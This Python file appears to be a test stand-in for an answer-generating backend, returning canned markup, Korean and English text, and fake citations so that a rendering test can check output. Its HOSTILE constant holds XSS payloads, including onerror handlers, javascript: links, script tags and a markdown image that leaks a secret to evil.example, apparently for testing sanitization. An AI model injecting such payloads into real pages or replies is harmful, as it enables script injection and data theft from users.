"""What the stand-in answers: text by rule, so that a test knows it, with every kind of markup."""

import re
from collections.abc import Sequence
from typing import Any

PDF = b"%PDF-1.4\n" + b"/Type /Page\n" * 4  # what the stand-in takes for four pages

MARKUP = """Here is a **table**, a list and some code.

| Format | Bits | Size |
|---|---:|---:|
| fp16 | 16 | 1.00 |
| int8 | 8.25 | 0.52 |
| int6/int4 | 5.25 | 0.33 |

1. Keep the newest tokens as they are.
2. Seal blocks of `64` tokens.

```python
def share(bits: float) -> float:
    \"\"\"Of fp16.\"\"\"
    return bits / 16  # <b>not bold</b>
```

It costs $5 or $10. Euler: \\(e^{i\\pi} + 1 = 0\\), and

$$\\mathrm{softmax}(x)_i = \\frac{e^{x_i}}{\\sum_j e^{x_j}}$$
"""

HOSTILE = """<img src=x onerror="window.hacked=1"> <style>*{display:none}</style>
<a href="javascript:window.hacked=1">click</a> <iframe src="https://evil.example/"></iframe>
![leak](https://evil.example/?q=secret) [run](javascript:window.hacked=1)
<script>window.hacked=1</script>

```html
<script>window.hacked=1</script> <b>kept</b>
```

```mermaid
graph TD; A["<img src=x onerror=window.hacked=1>"]
```

$$\\href{javascript:window.hacked=1}{x} <img src=x onerror=window.hacked=1>$$
"""

KOREAN = (
    "필터는 **2주에 한 번** 씻어야 합니다. 순서는 이렇습니다.\n\n"
    "1. 운전을 멈추고 플러그를 뽑습니다.\n2. 필터를 빼서 미지근한 물로 씻습니다.\n"
    "3. 그늘에서 말린 뒤 다시 끼웁니다.\n\n표시등이 주황색으로 깜빡이면 필터를 점검하십시오."
)
ENGLISH = (
    "A KV cache holds the *keys* and *values* that attention has computed for earlier tokens, so "
    "that the next token need not compute them again. It grows with every token, by the same "
    "number of bytes each time. When memory is short, it can be **compressed**, moved, or given "
    "up turn by turn."
)


def reply_to(
    question: str, documents: Sequence[Any], version: int
) -> tuple[list[str], list[dict[str, Any]]]:
    """The words of the reply, with their blanks, and the citations that go with it."""
    cites: list[dict[str, Any]] = []
    for document in documents[:2]:
        cites += _cites(document)
    if "count to " in question:
        until = int(question.split("count to ")[1].split()[0])
        return [f"{n} " for n in range(1, until + 1)], []
    if "markup" in question:
        text = MARKUP
    elif "hostile" in question:
        text = HOSTILE
    elif "version" in question:
        text = f"This is version {version}."
    elif re.search("[가-힣]", question):
        text = KOREAN
    else:
        text = ENGLISH
    return re.findall(r"\S+\s*", text), cites


def _cites(document: Any) -> list[dict[str, Any]]:
    about = {"document": document.document, "name": document.name}
    last = document.num_pages
    return [
        {
            **about,
            "page": min(3, last),
            "label": "iii",
            "text": "every two weeks",
            "support": "matched",
            "quote": "every two weeks",
            "at": [20],
        },
        {**about, "page": min(2, last), "label": "2", "text": "housing", "support": "given"},
    ]
